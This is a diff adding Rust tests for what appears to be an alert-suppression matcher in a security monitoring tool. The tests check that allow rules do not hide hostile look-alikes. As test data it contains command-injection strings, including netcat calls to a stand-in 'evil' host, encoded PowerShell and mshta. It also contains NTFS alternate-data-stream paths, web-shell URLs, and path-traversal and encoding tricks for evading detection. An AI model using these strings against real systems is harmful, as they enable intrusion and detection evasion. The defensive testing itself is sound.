@@ -119,3 +119,183 @@ fn a_way_up_leads_out_of_no_share() {
         ],
     )]);
 }
+
+#[test]
+fn contents_with_a_name_of_their_own_are_no_file_in_the_folder() {
+    hides_only(&[
+        (
+            IMAGE,
+            r"{ glob = 'C:\Windows\*.exe' }",
+            r"C:\Windows\explorer.exe",
+            &[r"C:\Windows\Tracing:evil.exe"],
+        ),
+        (
+            IMAGE,
+            r"{ prefix = 'C:\Program Files\' }",
+            r"C:\Program Files\App\a b.exe",
+            &[r"C:\Program Files\App A:evil.exe", r"C:\Program Files:evil.exe"],
+        ),
+        (
+            IMAGE,
+            r"{ regex = 'C:\\Windows\\[^\\]*\.exe' }",
+            r"C:\Windows\explorer.exe",
+            &[r"C:\Windows\Tracing:evil.exe"],
+        ),
+        (
+            "data.win.eventdata.targetFilename",
+            r"{ glob = 'C:\Users\**:Zone.Identifier' }",
+            r"C:\Users\eve\a.exe:Zone.Identifier",
+            &[r"C:\Users\eve\a.exe:b"],
+        ),
+        (
+            "data.win.eventdata.targetObject",
+            r"{ glob = 'HKLM\Software\App\*' }",
+            r"HKLM\Software\App\a:b c",
+            &[r"HKLM\Software\Other\a:b c"],
+        ),
+        (
+            COMMAND_LINE,
+            r"{ glob = 'C:\Windows\**' }",
+            r"C:\Windows\System32\wevtutil.exe gl /f:xml C:\Windows\x http://a:80/b",
+            &[
+                r"C:\Windows\Tracing:evil.exe",
+                r"C:\Windows\cmd.exe /c C:\Windows\Tracing:evil.exe",
+            ],
+        ),
+        ("data.file", "{ glob = '/srv/*' }", "/srv/a:b", &["/srw/a:b"]),
+    ]);
+}
+
+#[test]
+fn a_star_does_not_go_on_to_another_command_or_from_a_path_to_its_question() {
+    hides_only(&[
+        (
+            COMMAND_LINE,
+            r"{ glob = 'cmd.exe /c C:\Scripts\*.bat' }",
+            r"cmd.exe /c C:\Scripts\a b-1.bat",
+            &[
+                r"cmd.exe /c C:\Scripts\a.bat & evil.bat",
+                r"cmd.exe /c C:\Scripts\a.bat&mshta http:x.bat",
+                "cmd.exe /c C:\\Scripts\\a\r\nevil.bat",
+            ],
+        ),
+        (
+            COMMAND_LINE,
+            r"{ glob = 'cmd.exe /c C:\Scripts\*' }",
+            r"cmd.exe /c C:\Scripts\a.bat /x 100% (y) $z",
+            &[
+                r"cmd.exe /c C:\Scripts\a.bat & \evil",
+                r"cmd.exe /c C:\Scripts\a.bat | powershell -enc AA==",
+                r"cmd.exe /c C:\Scripts\$(evil)",
+            ],
+        ),
+        (
+            "data.command",
+            "{ glob = '/opt/backup/*' }",
+            "/opt/backup/run.sh --all $HOME",
+            &[
+                "/opt/backup/run.sh;nc evil 4444",
+                "/opt/backup/x$(nc evil 1)",
+                "/opt/backup/x`nc evil 1`",
+            ],
+        ),
+        (
+            "data.command",
+            "{ glob = '/usr/bin/curl https://*.example.com/*' }",
+            "/usr/bin/curl https://www.example.com/x?y=1 -o z",
+            &[
+                "/usr/bin/curl https://evil.test?.example.com/x",
+                "/usr/bin/curl https://evil.test -o .example.com/x",
+            ],
+        ),
+        (
+            "data.url",
+            "{ glob = '/static/*.css' }",
+            "/static/a%20b-1.css",
+            &[
+                "/static/shell.php?cmd=id&x.css",
+                "/static/shell.php%3fx.css",
+                "/static/shell.php;x.css",
+                "/static/shell.php%00.css",
+                "/static/shell.php%253fx.css",
+            ],
+        ),
+        (
+            "data.url",
+            "{ glob = '/health/*' }",
+            "/health/live?x=1",
+            &["/healthy/live?x=1"],
+        ),
+        (
+            IMAGE,
+            r"{ glob = 'C:\Program Files\*\a.exe' }",
+            r"C:\Program Files\R&D; $(x)\a.exe",
+            &[r"C:\Program Files\R&D\b.exe"],
+        ),
+    ]);
+}
+
+#[test]
+fn a_way_up_behind_a_link_of_anybodys_does_not_lead_to_what_it_looks_like() {
+    hides_only(&[
+        (
+            "data.command",
+            "{ glob = '/opt/backup/*' }",
+            "/opt/backup/bin/../agent",
+            &[
+                "/tmp/eve/l/../../../opt/backup/agent",
+                "/opt/backup/l/../../backup/agent",
+            ],
+        ),
+        (
+            "data.file",
+            "{ prefix = '/var/log/a' }",
+            "/var/log/x/../app.log",
+            &["/tmp/l/../../var/log/app.log"],
+        ),
+    ]);
+}
+
+#[test]
+fn a_way_up_that_only_a_shell_sees_leads_out_too() {
+    hides_only(&[
+        (
+            COMMAND_LINE,
+            r"{ glob = 'cmd.exe /c C:\Scripts\**.bat' }",
+            r"cmd.exe /c C:\Scripts\a..b\x...y.bat",
+            &[
+                r"cmd.exe /c C:\Scripts\..^\Temp\x.bat",
+                r"cmd.exe /c C:\Scripts\.^.\Temp\x.bat",
+                r#"cmd.exe /c C:\Scripts\".."\Temp\x.bat"#,
+                r"cmd.exe /c C:\Scripts\..%PATH:~0,0%\Temp\x.bat",
+            ],
+        ),
+        (
+            COMMAND_LINE,
+            r"{ regex = 'powershell -File C:\\Scripts\\.*' }",
+            r"powershell -File C:\Scripts\a.ps1 '.' `.",
+            &[
+                r"powershell -File C:\Scripts\..`\Temp\x.ps1",
+                r"powershell -File C:\Scripts\'..'\Temp\x.ps1",
+                r"powershell -File C:\Scripts\.`.\Temp\x.ps1",
+            ],
+        ),
+        (
+            "data.command",
+            "{ glob = '/bin/sh -c /opt/backup/**' }",
+            "/bin/sh -c /opt/backup/\"run.sh\" x.",
+            &[
+                r#"/bin/sh -c /opt/backup/".."/".."/tmp/evil"#,
+                r#"/bin/sh -c /opt/backup/"..""/"../tmp/evil"#,
+                "/bin/sh -c /opt/backup/..$x/..$x/tmp/evil",
+                "/bin/sh -c /opt/backup/{..,}/tmp/evil",
+            ],
+        ),
+        (
+            "full_log",
+            "{ glob = '**GET /health/* HTTP/1.1**' }",
+            "GET /health/live HTTP/1.1 x",
+            &["GET /health/%2e%2e HTTP/1.1 x"],
+        ),
+    ]);
+}
